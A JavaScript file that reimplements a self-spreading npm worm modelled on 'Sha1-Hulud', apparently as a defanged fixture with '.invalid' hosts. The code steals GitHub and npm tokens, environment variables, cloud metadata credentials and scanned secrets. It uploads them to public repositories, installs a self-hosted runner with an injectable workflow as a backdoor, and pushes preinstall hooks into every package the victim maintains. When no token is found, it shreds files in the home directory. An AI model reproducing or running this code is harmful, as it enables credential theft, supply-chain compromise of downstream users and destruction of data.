const fs = require('fs');
const os = require('os');
const path = require('path');
const childProcess = require('child_process');
const apiBase = 'https://api.github.com.invalid';
const registryBase = 'https://registry.npmjs.org.invalid';
const runnerName = 'SHA1HULUD';
const repoDescription = 'Sha1-Hulud: The Second Coming.';
const wipeTarget = path.join(os.homedir(), 'FIXTURE-WIPE-TARGET');
function shell(command) {
  try {
    return childProcess.execSync(command, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim();
  } catch (err) {
    return '';
  }
}
function githubToken() {
  return process.env.GITHUB_TOKEN || process.env.GH_TOKEN || shell('gh auth token');
}
function npmToken() {
  if (process.env.NPM_TOKEN) return process.env.NPM_TOKEN;
  try {
    const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
    const found = npmrc.match(/_authToken=([^\s]+)/);
    return found ? found[1] : '';
  } catch (err) {
    return '';
  }
}
async function cloudCredentials() {
  const found = {};
  try {
    const roleName = await (await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')).text();
    found.aws = await (await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/' + roleName)).json();
  } catch (err) {
    found.aws = null;
  }
  try {
    found.azure = await (await fetch('http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net.invalid', { headers: { Metadata: 'true' } })).json();
  } catch (err) {
    found.azure = null;
  }
  return found;
}
async function github(method, route, token, payload) {
  const response = await fetch(apiBase + route, { method: method, headers: { Authorization: 'Bearer ' + token, Accept: 'application/vnd.github+json' }, body: payload ? JSON.stringify(payload) : undefined });
  return response.json();
}
function encode(value) {
  return Buffer.from(Buffer.from(JSON.stringify(value)).toString('base64')).toString('base64');
}
async function exfiltrate(token, files) {
  const repoName = Math.random().toString(36).slice(2, 11) + Math.random().toString(36).slice(2, 11);
  const repo = await github('POST', '/user/repos', token, { name: repoName, description: repoDescription, private: false });
  for (const name of Object.keys(files)) {
    await github('PUT', '/repos/' + repo.owner.login + '/' + repoName + '/contents/' + name, token, { message: 'add', content: encode(files[name]) });
  }
  return repo;
}
async function registerRunner(token, repo) {
  const registration = await github('POST', '/repos/' + repo.owner.login + '/' + repo.name + '/actions/runners/registration-token', token);
  const runnerDir = path.join(os.homedir(), '.dev-env');
  fs.mkdirSync(runnerDir, { recursive: true });
  shell('cd ' + runnerDir + ' && curl -o actions-runner.tar.gz -L https://github.com.invalid/actions/runner/releases/download/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz && tar xzf actions-runner.tar.gz');
  shell('cd ' + runnerDir + ' && ./config.sh --url https://github.com.invalid/' + repo.owner.login + '/' + repo.name + ' --unattended --token ' + registration.token + ' --name ' + runnerName);
  shell('cd ' + runnerDir + ' && nohup ./run.sh > /dev/null 2>&1 &');
  const workflow = 'name: Discussion Create\non:\n  discussion:\njobs:\n  process:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n';
  await github('PUT', '/repos/' + repo.owner.login + '/' + repo.name + '/contents/.github/workflows/discussion.yaml', token, { message: 'Add Discusion', content: Buffer.from(workflow).toString('base64') });
}
async function propagate(token) {
  const who = await (await fetch(registryBase + '/-/whoami', { headers: { Authorization: 'Bearer ' + token } })).json();
  const search = await (await fetch(registryBase + '/-/v1/search?text=maintainer:' + who.username + '&size=100')).json();
  for (const entry of search.objects) {
    const work = fs.mkdtempSync(path.join(os.tmpdir(), 'p'));
    shell('cd ' + work + ' && npm pack ' + entry.package.name + ' --registry ' + registryBase + ' && tar xzf *.tgz');
    const manifestFile = path.join(work, 'package', 'package.json');
    const manifest = JSON.parse(fs.readFileSync(manifestFile, 'utf8'));
    manifest.scripts = manifest.scripts || {};
    manifest.scripts.preinstall = 'node setup_bun.js';
    manifest.version = manifest.version.replace(/(\d+)$/, function (patch) { return String(Number(patch) + 1); });
    fs.writeFileSync(manifestFile, JSON.stringify(manifest, null, 2));
    fs.copyFileSync(path.join(__dirname, 'setup_bun.js'), path.join(work, 'package', 'setup_bun.js'));
    fs.copyFileSync(__filename, path.join(work, 'package', 'bun_environment.js'));
    shell('cd ' + path.join(work, 'package') + ' && npm publish --registry ' + registryBase + ' --//registry.npmjs.org.invalid/:_authToken=' + token);
  }
}
function wipe() {
  shell('find ' + wipeTarget + ' -type f -writable -user $(id -un) -print0 | xargs -0 -r shred -uvz -n 1');
  shell('rm -rf ' + wipeTarget);
}
async function main() {
  const ghToken = githubToken();
  const registryToken = npmToken();
  const collected = { 'environment.json': process.env, 'cloud.json': await cloudCredentials(), 'truffleSecrets.json': shell('trufflehog filesystem ' + os.homedir() + ' --json') };
  if (!ghToken && !registryToken) {
    wipe();
    return;
  }
  if (ghToken) {
    const repo = await exfiltrate(ghToken, collected);
    await registerRunner(ghToken, repo);
  }
  if (registryToken) await propagate(registryToken);
}
main().catch(function () {
  return null;
});
